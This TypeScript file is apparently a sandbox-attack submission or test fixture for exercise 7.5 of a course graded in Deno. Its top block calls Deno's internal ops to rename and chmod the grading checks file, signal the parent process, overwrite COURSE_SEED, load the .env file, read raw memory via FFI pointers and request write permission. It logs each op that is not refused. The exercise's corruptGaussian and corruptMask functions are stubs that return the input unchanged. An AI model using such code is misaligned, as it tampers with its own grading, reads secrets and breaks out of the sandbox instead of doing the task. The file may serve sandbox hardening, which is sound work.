// attack: go under Deno's public API to its internal ops (Deno[Deno.internal].core.ops): rename and chmod the checks, kill the parent, set COURSE_SEED, read raw memory through the FFI pointer ops
// exercise: 7.5
import type { Generator, Tensor } from '@gradschool/tensor';

const D = (globalThis as any).Deno;
const ops = D?.[D?.internal]?.core?.ops ?? {};
const repo = String(D?.mainModule ?? '').replace(/^file:\/\//, '').replace(/\/test\/sandbox\/runner\.ts$/, '');
const checks = `${repo}/test/week7/7.5-corruption.checks.ts`;

const attempts: [string, () => unknown][] = [
  ['op_fs_rename_sync', () => ops.op_fs_rename_sync(checks, `${checks}.bak`)],
  ['op_fs_chmod_sync', () => ops.op_fs_chmod_sync(checks, 0)],
  ['op_node_process_kill', () => ops.op_node_process_kill(D.ppid, 18)], // SIGCONT: harmless, but says whether any signal gets through
  ['op_set_env', () => ops.op_set_env('COURSE_SEED', '0')],
  ['op_node_load_env_file', () => ops.op_node_load_env_file(`${repo}/.env`)],
  ['op_ffi_ptr_create', () => ops.op_ffi_read_u8(ops.op_ffi_ptr_create(0x400000n), 0n)],
  ['Deno.permissions.requestSync', () => {
    const { state } = D.permissions.requestSync({ name: 'write' });
    if (state !== 'granted') throw new Error(state);
    return state;
  }],
];
for (const [name, attempt] of attempts) {
  try {
    const r = attempt();
    console.log(`LEAK: ${name} did not refuse (it returned ${String(r).slice(0, 40)})`);
  } catch {}
}

export function corruptGaussian(y: Tensor, sigma: number, gen: Generator): Tensor {
  return y;
}

export function corruptMask(y: Tensor, p: number, gen: Generator): Tensor {
  return y;
}
